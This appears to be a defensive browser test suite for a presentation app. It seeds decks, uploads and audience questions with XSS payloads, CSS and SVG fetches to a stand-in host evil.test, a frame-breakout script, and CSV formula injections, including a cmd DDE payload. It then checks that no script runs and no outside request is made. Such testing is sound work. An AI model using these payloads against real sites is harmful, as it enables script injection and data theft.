// Attacks in texts, uploads and answers, opened on every page that shows them: no script runs, nothing is requested from
// other hosts but the page that a deck embeds, or from paths of this one that count, and the content security policy is
// never needed.

import assert from "node:assert/strict";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { after, before, test } from "node:test";
import { lectern } from "./visit.js";

const EVIL = "https://evil.test";
/** The page that the deck embeds, which may be requested. It tries to break out of its frame. */
const EMBEDDED = "https://embedded.test";
/** A picture of another host, which a deck may show. */
const PICTURE = "https://pictures.test/shown.png";
/** What may be requested from other hosts: that page, that picture, and those of the examples of slide types. */
const SHOWN = [EMBEDDED, PICTURE, "https://example.com/"];

/** Texts that would run somewhere if they were treated as anything but text. */
const TEXT = [
  `<script>hit("script")</script>`,
  `<img src=x onerror=hit("img")>`,
  `"><svg onload=hit("svg")>`,
  `'-hit("quote")-'`,
  `{{constructor.constructor('hit("template")')()}}`,
  `</title></textarea></style></script><script>hit("closed")</script>`,
];
const text = (number) => TEXT[number % TEXT.length];

const MARKDOWN = [
  `[a](javascript:hit("link")) [b](JaVaScRiPt&#58;hit("entity")) [c](data:text/html,<script>hit("data")</script>)`,
  `[d](vbscript:hit) ![e](javascript:hit("picture")) <javascript:hit("auto")>`,
  `<iframe src="javascript:hit('frame')"></iframe><details open ontoggle=hit("toggle")>x</details>`,
  `<a href="  java\tscript:hit('tab')">f</a> <form action="${EVIL}/form"><button>g</button></form>`,
].join("\n\n");

const HTML = `
  <div onclick="hit('click')" onmouseover="hit('over')" onfocus="hit('focus')" tabindex="0" style="position:fixed;inset:0">x</div>
  <img src="${PICTURE}" onerror="hit('error')" srcset="${EVIL}/set.png 2x">
  <img src="/go/QQQQ"><img src="/uploads/../go/QQQQ"><img src="/uploads/%2e%2e/go/QQQQ">
  <a href="javascript:hit('href')" target="_top" ping="${EVIL}/ping">a</a>
  <svg><script>hit('svg script')</script><animate onbegin="hit('begin')" attributeName="x" dur="1s"/></svg>
  <math><mtext><table><mglyph><style><img src=x onerror=hit('math')></style></mglyph></table></mtext></math>
  <iframe srcdoc="<script>parent.hit('srcdoc')</script>"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">
  <link rel="stylesheet" href="${EVIL}/link.css"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/">
  <form action="${EVIL}/post"><input autofocus onfocus="hit('autofocus')"><button formaction="javascript:hit('formaction')">b</button></form>
  <template><script>hit('template')</script></template><video src="${EVIL}/v.mp4" poster="${EVIL}/poster.png"></video>
  <style>@import "${EVIL}/style.css"; body{background:url(${EVIL}/body.png)}</style><noscript><p title="</noscript><img src=x onerror=hit('noscript')>"></noscript>`;

const CSS = `@import url("${EVIL}/import.css"); @import "${EVIL}/import2.css";
  @font-face { font-family: x; src: url(${EVIL}/font.woff2) }
  body, .bar, :root { background: url("${EVIL}/root.png") !important; display: none !important }
  p { background-image: image-set("${EVIL}/set.png" 1x); width: expression(hit("expression")); behavior: url(${EVIL}/b.htc) }
  p { -moz-binding: url(${EVIL}/x.xml#y); list-style: url(\\68ttps://evil.test/escaped.png); cursor: url(${EVIL}/c.cur), auto }
  p::after { content: url(${EVIL}/after.png) } </style><script>hit("style end")</script>
  input[value^="a"] { background: url(${EVIL}/leak?a) } #x { color: red; } } * { position: fixed }`;

const SVG = `<?xml version="1.0"?>
<?xml-stylesheet href="${EVIL}/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30" onload="hit('svg load')">
<script>hit('svg file')</script><style>@import "${EVIL}/svg.css"; rect{fill:url(${EVIL}/fill.svg#a)}</style>
<foreignObject width="40" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><script>hit('foreign')</script><iframe src="${EVIL}/foreign"/></body></foreignObject>
<image href="${EVIL}/image.png" width="9" height="9"/><use xlink:href="${EVIL}/use.svg#a"/><a href="javascript:hit('svg link')"><rect width="40" height="30" fill="teal"/></a>
<animate attributeName="href" to="javascript:hit('animate')" begin="0s"/><text>x</text></svg>`;

let service, folder, deck, talk, view, theme, picture;

/** The content of a slide type with attacks in all its texts. */
function attacked(fields, example, count) {
  const content = { ...example };
  for (const field of fields) {
    const kind = field.type ?? field.kind;
    if (kind === "string") content[field.key] = text(count.n++);
    else if (kind === "markdown")
      content[field.key] = `${text(count.n++)}\n\n${MARKDOWN}`;
    else if (kind === "csv")
      content[field.key] =
        `=HYPERLINK("${EVIL}"),${text(count.n++)}\n@SUM(1),2\n+cmd|' /C calc'!A0,3`;
    else if (kind === "items" && Array.isArray(example?.[field.key]))
      content[field.key] = example[field.key].map((item) =>
        typeof item === "object"
          ? attacked(field.itemFields ?? [], item, count)
          : text(count.n++),
      );
  }
  return content;
}

before(async () => {
  service = await lectern();
  folder = await mkdtemp(join(tmpdir(), "lectern-attacks-"));
  const { api } = service;
  const upload = await api("POST", "/api/uploads", {
    dataUrl: `data:image/svg+xml;base64,${Buffer.from(SVG).toString("base64")}`,
    name: `"><img src=x onerror=hit('file')>.svg`,
    title: text(1),
    alt: text(2),
    tags: [text(0)],
  });
  picture = upload.url;
  const made = await api("POST", "/api/themes/custom", {
    label: `<img src=x onerror=hit(1)>`,
    colors: {},
  });
  theme = made.theme;

  const known = await api("GET", "/api/slide-types");
  const count = { n: 0 };
  const slides = Object.entries(known.slideTypes).map(([key, type]) => ({
    type: key,
    content: attacked(type.fields ?? [], type.example ?? {}, count),
    notes: `${text(count.n++)} ${MARKDOWN}`,
  }));
  slides.push(
    { type: "custom-html-slide", content: { html: HTML, css: CSS } },
    {
      type: "image-slide",
      content: { title: text(0), image: picture, alt: text(1) },
    },
    {
      type: "embed-slide",
      content: { title: text(2), embedUrl: `${EMBEDDED}/page` },
    },
    { type: "feedback-slide", content: { question: text(3) } },
  );
  for (const bad of [
    "javascript:hit('embed')",
    "data:text/html,<script>hit('embed data')</script>",
  ])
    slides.push({
      type: "embed-slide",
      content: { title: "x", embedUrl: bad },
    });
  // An import may refuse some of it, which is as good.
  const imported = await api("POST", "/api/presentations/import/json", {
    title: `${text(1)} ${text(5)}`,
    description: text(0),
    slides,
  });
  deck = imported.presentation;
  assert.ok(deck.slides.length > 30, "the attacks are in the deck");
  await api("POST", `/api/presentations/${deck.id}/comments`, {
    body: `${text(1)} ${MARKDOWN}`,
    slideId: deck.slides[0].id,
  });

  talk = await api("POST", "/api/present-sessions", {
    presentationId: deck.id,
  });
  const feedback = deck.slides.findLastIndex(({ type }) =>
    /feedback/.test(type),
  );
  const state = (slideIndex) =>
    api("POST", `/api/present-sessions/${talk.sessionId}/state`, {
      slideIndex,
      stepIdx: 0,
      stepParagraphs: false,
    });
  await state(feedback);
  await api(
    "POST",
    `/api/present-sessions/${talk.sessionId}/interactions/${deck.slides[feedback].id}/open`,
  );
  const someone = await service.stranger();
  for (const words of TEXT)
    await someone("POST", `/api/follow/${talk.sessionId}/questions`, {
      text: words,
    }).catch((fault) => {
      // One device may have a limit, or questions may be switched off.
      assert.match(String(fault), /: (400|403|429) /);
    });
  await someone(
    "POST",
    `/api/follow/${talk.sessionId}/interactions/${deck.slides[feedback].id}/feedback`,
    {
      text: `=HYPERLINK("${EVIL}";"x") ${text(1)}`,
    },
  );
  view = await api("POST", `/api/presentations/${deck.id}/links`, {
    name: text(1),
  });
});
after(async () => {
  await service?.stop();
  if (folder) await rm(folder, { recursive: true, force: true });
});

/** Opens a page and records what it tries. */
async function watched(signedIn = true) {
  const visit = await service.visit({ signedIn, mayFail: /./ });
  const { context, page } = visit;
  const tried = [];
  const requested = new Set();
  await context.exposeFunction("hit", (what) =>
    tried.push(`a script ran: ${what}`),
  );
  await context.exposeFunction("breached", (what) =>
    tried.push(`a policy stepped in: ${what}`),
  );
  await context.addInitScript(() =>
    addEventListener(
      "securitypolicyviolation",
      ({ violatedDirective, blockedURI }) =>
        globalThis.breached(
          `${location.pathname} ${violatedDirective} ${blockedURI}`,
        ),
    ),
  );
  page.on("dialog", async (dialog) => {
    tried.push(`a dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  context.on(
    "page",
    (opened) => opened !== page && tried.push(`a window: ${opened.url()}`),
  );
  await context.route(/^https?:/, async (route) => {
    const url = route.request().url();
    // A deck must not make its readers request `/go/`, where wrong codes count towards a limit.
    const isOwn = url.startsWith(service.base);
    if (isOwn && !url.includes("/go/")) return route.continue();
    requested.add(url);
    if (!url.startsWith(EMBEDDED)) return route.abort();
    return route.fulfill({
      contentType: "text/html",
      body: `<script>
        for (const act of [() => { top.location = "${EVIL}/top" }, () => { parent.document.title = "taken" }, () => { parent.hit("embed") },
          () => { open("${EVIL}/window") }, () => { alert("embed") }]) try { act() } catch {}
      </script>embedded`,
    });
  });
  return {
    page,
    /** Checks that no attack of a page with slides worked. */
    async unharmed(what) {
      for (const frame of await page.locator("iframe").all()) {
        const sandbox = (await frame.getAttribute("sandbox")) ?? "none";
        assert.ok(
          !/allow-top-navigation|^none$/.test(sandbox),
          `${what}: a frame with sandbox ${sandbox}`,
        );
        const address =
          (await frame.getAttribute("src")) ??
          (await frame.getAttribute("data-src")) ??
          "";
        assert.match(address, /^https:/, what);
      }
      // Trigger what would run later.
      await page.evaluate(() => {
        for (const element of document.querySelectorAll(
          "[onclick],[onmouseover],[onfocus],[onerror],[onload]",
        ))
          globalThis.hit(
            `a handler is left: ${element.outerHTML.slice(0, 80)}`,
          );
        for (const link of document.querySelectorAll(
          "a[href],area[href],form[action],[formaction]",
        )) {
          const to =
            link.getAttribute("href") ??
            link.getAttribute("action") ??
            link.getAttribute("formaction");
          if (/^\s*(javascript|vbscript|data):/i.test(to))
            globalThis.hit(`a link is left: ${to.slice(0, 80)}`);
        }
      });
      await page.waitForTimeout(300);
      assert.deepEqual(tried, [], what);
      assert.deepEqual(
        [...requested].filter(
          (url) => !SHOWN.some((shown) => url.startsWith(shown)),
        ),
        [],
        what,
      );
    },
    done: () => visit.context.close(),
  };
}

test("the editor shows every slide unharmed", async () => {
  const { page, unharmed, done } = await watched();
  await page.goto(`${service.base}/app/${deck.id}`);
  const rows = page
    .getByRole("listbox", { name: "Slides" })
    .getByRole("option");
  await rows.first().waitFor();
  for (let slide = 0; slide < deck.slides.length; slide++) {
    await rows.nth(slide).click();
    await page.waitForTimeout(150);
  }
  assert.equal(await rows.last().getAttribute("aria-selected"), "true");
  await unharmed("the editor");
  await page.goto(
    `${service.base}/app/${deck.id}?panel=comments&slideId=${deck.slides[0].id}`,
  );
  await rows.first().waitFor();
  await page.waitForTimeout(500);
  await unharmed("comments");
  await done();
});

test("lists and settings show names unharmed", async () => {
  const { page, unharmed, done } = await watched();
  for (const path of [
    "/app",
    "/settings/themes",
    `/settings/themes/${theme.id}`,
    "/settings/audit",
    "/trash",
  ]) {
    await page.goto(service.base + path);
    await page
      .getByRole("heading", { level: 1 })
      .first()
      .waitFor({ state: "attached" });
    await page.waitForTimeout(300);
    await unharmed(path);
  }
  await done();
});

test("a live session shows every slide, question and answer unharmed", async () => {
  const [presenter, hall, notes] = [
    await watched(),
    await watched(false),
    await watched(),
  ];
  await presenter.page.goto(`${service.base}/present/${deck.id}`);
  await hall.page.goto(`${service.base}/follow/${talk.sessionId}`);
  await notes.page.goto(`${service.base}/notes/${talk.sessionId}`);
  for (let slideIndex = 0; slideIndex < deck.slides.length; slideIndex++) {
    await service.api("POST", `/api/present-sessions/${talk.sessionId}/state`, {
      slideIndex,
      stepIdx: 0,
      stepParagraphs: false,
    });
    await hall.page.waitForTimeout(120);
  }
  for (const [what, one] of Object.entries({ presenter, hall, notes })) {
    await one.unharmed(what);
    await one.done();
  }
});

test("a share link shows the deck unharmed", async () => {
  const { page, unharmed, done } = await watched(false);
  await page.goto(service.base + view.path);
  await page.locator(".slide").first().waitFor({ state: "attached" });
  for (let turn = 0; turn < deck.slides.length; turn++)
    await page.keyboard.press("ArrowRight");
  await unharmed("the link");
  await done();
});

test("exported pages are unharmed, wherever they are opened", async () => {
  const { page, unharmed, done } = await watched();
  await page.goto(`${service.base}/api/presentations/${deck.id}/export/pdf`);
  await unharmed("for print");
  const file = await page
    .context()
    .request.get(`${service.base}/api/presentations/${deck.id}/export/html`);
  const path = join(folder, "deck.html");
  await writeFile(path, await file.body());
  await page.goto(pathToFileURL(path).href);
  await page.locator(".slide").first().waitFor({ state: "attached" });
  for (let turn = 0; turn < deck.slides.length * 2; turn++)
    await page.keyboard.press("ArrowRight");
  await unharmed("one file");
  await done();
});

test("an uploaded picture that is opened on its own runs no script", async () => {
  const { page, unharmed, done } = await watched();
  const answer = await page.goto(service.base + picture);
  const { "content-security-policy": policy, "x-content-type-options": sniff } =
    answer.headers();
  assert.equal(answer.status(), 200);
  assert.match(policy, /sandbox; default-src 'none'/);
  assert.equal(sniff, "nosniff");
  await unharmed(picture);
  await done();
});

test("exported tables contain no formulas", async () => {
  const { page, done } = await watched();
  const { request } = page.context();
  for (const path of [
    "questions.csv",
    `results/${deck.slides.findLast(({ type }) => /poll/.test(type)).id}.csv`,
  ]) {
    const answer = await request.get(
      `${service.base}/api/present-sessions/${talk.sessionId}/${path}`,
    );
    const table = await answer.text();
    for (const cell of table.split(/[\n,]/))
      assert.doesNotMatch(cell, /^"?[=+@\t]/, `${path}: ${cell}`);
  }
  await done();
});
